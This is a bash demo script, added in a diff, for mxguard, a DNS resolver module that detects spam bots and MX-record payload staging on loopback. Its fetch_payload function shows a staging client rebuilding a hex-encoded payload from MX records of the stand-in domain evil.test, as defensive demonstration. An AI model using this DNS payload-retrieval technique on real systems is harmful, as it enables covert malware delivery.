@@ -1,0 +1,114 @@
+#!/usr/bin/env bash
+# contrib/demo.sh - mxguard in action, on loopback, in a few minutes.
+#
+# Builds everything (contrib/build.sh), then starts a private NSD serving test
+# zones (ordinary companies, a big mail provider, a dynamic-DNS name and a
+# payload-staging domain written exactly as the public MX staging tool writes
+# it), a private Redis and Unbound with mxguard, all on 127.0.0.1 and free
+# ports. It replays four clients:
+#   127.0.0.2   the mail relay (allowlisted), sending mail to 200 domains
+#   127.0.0.10  a laptop looking up two MX records
+#   127.0.0.66  a spam bot resolving MX for 500 domains
+#   127.0.0.99  a staging client fetching its payload from N.evil.test
+# once in log mode and once in refuse mode, and prints what mxguard saw and
+# did, from Redis through mxguard-report. Everything it started is stopped
+# by PID at the end; nothing leaves the machine.
+set -euo pipefail
+top=$(cd "$(dirname "$0")/.." && pwd)
+cd "$top"
+
+echo "== building (first run: installs packages and builds Unbound, ~2 min)"
+UNBOUND_DIR=$(bash contrib/build.sh 2>"${TMPDIR:-/tmp}/mxguard-demo-build.log" | tail -n 1) || {
+	tail -30 "${TMPDIR:-/tmp}/mxguard-demo-build.log"; echo "demo: build failed" >&2; exit 1; }
+export UNBOUND_DIR MXG_BUILDDIR=$top MXG_SRCDIR=$top
+. tests/integration/lib.sh
+mxg_setup
+REPORT=$top/tools/mxguard-report
+
+echo "== starting NSD, Redis and Unbound+mxguard on 127.0.0.1"
+bash contrib/make-zone.sh "$MXG_T/root.zone" 600
+staged_bytes=$(( $(sed -n 's/^; staging: [0-9]* hex chars in \([0-9]*\) MX.*/\1/p' "$MXG_T/root.zone") * 100 ))
+start_nsd "$MXG_T/root.zone"
+start_redis
+D=$MXG_T/unbound
+write_unbound_conf "$D" 2
+
+# write_conf MODE PREFIX
+write_conf() {
+	cat >"$D/mxguard.conf" <<CONF
+# mxguard demo config
+mode: $1
+relay: 127.0.0.2
+block-duration: 10m
+geoip-country: $top/tests/data/geoip/GeoIP2-Country-Test.mmdb
+geoip-asn: $top/tests/data/geoip/GeoLite2-ASN-Test.mmdb
+redis-server: 127.0.0.1:$REDIS_PORT
+redis-prefix: $2
+instance: demo-resolver
+log-file: $D/mxguard-$1.json
+CONF
+}
+write_conf log "demo-log:"
+start_unbound "$D" || { echo "demo: unbound did not start" >&2; exit 1; }
+
+# batch FILE CLIENT: run the queries in FILE from CLIENT; print "answered refused"
+batch() {
+	dig +time=3 +tries=1 -p "$UB_PORT" @127.0.0.1 -b "$2" -f "$1" +noall +comments 2>/dev/null |
+		awk '/status: NOERROR/ {a++} /status: REFUSED/ {r++} END {printf "%d %d\n", a, r}'
+}
+
+# fetch_payload CLIENT: fetch N.evil.test until an empty answer; print
+# "queries answered refused bytes"
+fetch_payload() {
+	local n=0 ans=0 ref=0 bytes=0 out hex
+	for n in 1 2 3 4 5; do
+		out=$(dig +time=5 +tries=1 +tcp -p "$UB_PORT" @127.0.0.1 -b "$1" "$n.evil.test" MX)
+		if echo "$out" | grep -q "status: REFUSED"; then ref=$((ref + 1)); continue; fi
+		ans=$((ans + 1))
+		hex=$(echo "$out" | awk '$4 == "MX" {print $5, $6}' | sort -n | awk '{print $2}' |
+			sed 's/\.evil\.test\.$//; s/\.//g' | tr -d '\n')
+		bytes=$((bytes + ${#hex} / 2))
+	done
+	echo "5 $ans $ref $bytes"
+}
+
+seq 1 200 | sed 's/.*/company&.test MX/' >"$MXG_T/relay.batch"
+seq 101 600 | sed 's/.*/company&.test MX/' >"$MXG_T/bot.batch"
+printf 'mx.test MX\nbigmail.test MX\n' >"$MXG_T/laptop.batch"
+
+# run MODE PREFIX: replay the four clients and report
+run() {
+	local mode=$1 prefix=$2
+	echo
+	echo "################  mode: $mode  ################"
+	read -r ra rr < <(batch "$MXG_T/relay.batch" 127.0.0.2)
+	read -r la lr < <(batch "$MXG_T/laptop.batch" 127.0.0.10)
+	read -r ba br < <(batch "$MXG_T/bot.batch" 127.0.0.66)
+	read -r sq sa sr sb < <(fetch_payload 127.0.0.99)
+	sleep 2	# let the background thread ship the last events to Redis
+	echo
+	echo "What the clients got:"
+	printf '  %-28s %5d MX lookups: %4d answered, %4d refused\n' \
+		"mail relay 127.0.0.2" 200 "$ra" "$rr" \
+		"laptop 127.0.0.10" 2 "$la" "$lr" \
+		"spam bot 127.0.0.66" 500 "$ba" "$br" \
+		"staging client 127.0.0.99" "$sq" "$sa" "$sr"
+	echo "  payload fetched by the staging client: $sb of $staged_bytes bytes staged"
+	echo
+	echo "What mxguard saw (mxguard-report, from Redis):"
+	"$REPORT" -s "127.0.0.1:$REDIS_PORT" -p "$prefix" alerts -N 12 | sed 's/^/  /'
+	echo
+	"$REPORT" -s "127.0.0.1:$REDIS_PORT" -p "$prefix" top-clients -N 5 | sed 's/^/  /'
+	echo
+	"$REPORT" -s "127.0.0.1:$REDIS_PORT" -p "$prefix" top-domains -N 8 | sed 's/^/  /'
+	echo
+	echo "JSON log lines written: $(wc -l <"$D/mxguard-$mode.json" 2>/dev/null || echo 0) ($D/mxguard-$mode.json)"
+}
+
+run log "demo-log:"
+write_conf refuse "demo-refuse:"
+ubctl "$D" reload >/dev/null
+wait_dns 127.0.0.1 "$UB_PORT" version.bind TXT -c CH
+run refuse "demo-refuse:"
+echo
+echo "== done; stopping Unbound, Redis and NSD"
